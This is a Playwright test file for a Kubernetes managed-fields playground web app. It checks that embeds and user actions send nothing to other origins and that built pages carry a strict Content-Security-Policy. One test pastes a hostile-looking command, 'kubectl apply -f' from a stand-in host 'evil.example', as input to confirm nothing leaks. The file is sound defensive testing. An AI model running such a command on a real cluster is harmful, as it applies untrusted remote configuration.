import { expect, type Page } from '@playwright/test';
import { type HostServer, serveHostPages } from './host/server.ts';
import { dropFiles, Playground, pasteOnPage } from './page.ts';
import { test, withMonaco } from './test.ts';

const secret = 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: s\nstringData:\n  password: hunter2\n';

let host: HostServer;

test.beforeAll(async ({ baseURL }) => {
  host = await serveHostPages(baseURL ?? '');
});

test.afterAll(() => host.close());

/** Every request of a page and its frames and workers. */
function recorded(page: Page): readonly string[] {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(`${request.url()} ${request.postData() ?? ''}`));
  page.on('websocket', (socket) => requests.push(socket.url()));
  return requests;
}

test('an embed asks the playground for its own files, and lets nobody know where it stands', async ({
  page,
  baseURL,
}) => {
  const requests = recorded(page);
  const referrers = new Set<string | undefined>();
  page.on('request', (request) => {
    if (request.url().startsWith(`${baseURL}/`) && request.frame() !== page.mainFrame()) {
      referrers.add(request.headers()['referer']);
    }
  });
  await page.goto(host.address('docs.html?strict&customer=hunter2'));
  const frame = page.locator('#children').frameLocator('iframe');
  await expect(frame.getByText('good morning').first()).toBeVisible();
  const own = [baseURL ?? '', new URL(host.address('')).origin];
  expect(requests.filter((url) => !own.some((origin) => url.startsWith(`${origin}/`)))).toEqual([]);
  expect(
    requests.filter((url) => url.startsWith(`${baseURL}/`) && /hunter2|morning/.test(decodeURIComponent(url))),
  ).toEqual([]);
  for (const referrer of referrers) expect(referrer ?? '').not.toContain(new URL(host.address('')).host);
  for (const iframe of await page.locator('managed-fields-playground iframe').all()) {
    await expect(iframe).toHaveAttribute('sandbox', /^(?!.*(top-navigation|allow-forms|allow-modals)).*allow-scripts/);
    await expect(iframe).toHaveAttribute('referrerpolicy', 'no-referrer');
  }
});

for (const [path, trusted] of [
  ['index.html', ['own-script', 'monaco', 'dompurify']],
  ['embed.html', ['own-script']],
] as const) {
  test(`the built ${path} carries its Content-Security-Policy, and nothing in it that the policy would refuse`, async ({
    request,
  }) => {
    const html = await (await request.get(`/${path}`)).text();
    const [, policy = ''] =
      /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html.replaceAll('&#39;', "'")) ?? [];
    const rules = new Map(policy.split('; ').map((rule) => [rule.split(' ')[0], rule.split(' ').slice(1)]));
    expect(rules.get('default-src')).toEqual(["'self'"]);
    expect(rules.get('connect-src')).toEqual(["'self'"]);
    expect(rules.get('script-src')).toEqual(["'self'"]);
    for (const rule of ['object-src', 'base-uri', 'form-action']) expect(rules.get(rule), rule).toEqual(["'none'"]);
    expect(rules.get('require-trusted-types-for')).toEqual(["'script'"]);
    expect(rules.get('trusted-types')).toEqual(trusted);
    expect(policy).not.toMatch(/unsafe-eval|wasm|\*|https?:/);
    expect(html).toContain('<meta name="referrer" content="no-referrer" />');
    // The policy comes before everything that it is about.
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.search(/<(script|link|style)/));
    expect(html.match(/<script(?![^>]*\ssrc=)[^>]*>/g)).toBe(null);
    expect(html.match(/\son\w+=|href="javascript:/g)).toBe(null);
    expect([...html.matchAll(/(?:src|href)="([^"]*)"/g)].filter(([, url = '']) => /^(https?:)?\/\//.test(url))).toEqual(
      [],
    );
  });
}

test.describe('with Monaco', () => {
  test.use(withMonaco);

  test('typing, bringing, sharing and opening examples sends nothing to another origin', async ({ page, baseURL }) => {
    const requests = recorded(page);
    const playground = new Playground(page);
    await playground.open();
    await playground.paste(secret);
    await expect(playground.stepButton(1)).toContainText('read');
    // Bringing: by paste, as files, as an error text.
    await pasteOnPage(page, 'kubectl apply -f https://evil.example/hunter2.yaml\n');
    const dialog = page.getByRole('dialog');
    await expect(dialog).toContainText('kubectl');
    await page.keyboard.press('Escape');
    await dropFiles(playground.steps, { 'a.yaml': secret, 'b.yaml': secret.replace('name: s', 'name: t') });
    await expect(dialog).toContainText('b.yaml');
    await page.keyboard.press('Escape');
    await pasteOnPage(page, 'error: Apply failed with 1 conflict: conflict with "hunter2": .spec.replicas');
    await expect(dialog).toContainText('Conflict with other managers');
    await page.keyboard.press('Escape');
    // Sharing: the link, and the ways that name other sites.
    await page.getByRole('button', { name: 'Share', exact: true }).click();
    await expect(dialog.getByRole('textbox', { name: 'The link' })).toHaveValue(/#/);
    await page.keyboard.press('Escape');
    // What the engine computes on demand, in every view.
    await playground.openExample('A conflict and its three ways out');
    await playground.selectStep(3);
    await playground.conflict.getByRole('button', { name: 'Field by field' }).click();
    for (const view of ['Changes', 'managedFields', 'Table', 'Object']) {
      await playground.result.getByRole('tab', { name: view }).click();
    }
    await playground.line('replicas: 4').first().getByText('replicas').first().click();
    await expect(playground.field).toContainText('.spec.replicas');

    const elsewhere = requests.filter((url) => !url.startsWith(`${baseURL}/`) && !/^(data|blob):/.test(url));
    expect(elsewhere).toEqual([]);
    expect(requests.filter((request) => request.includes('hunter2'))).toEqual([]);
  });
});
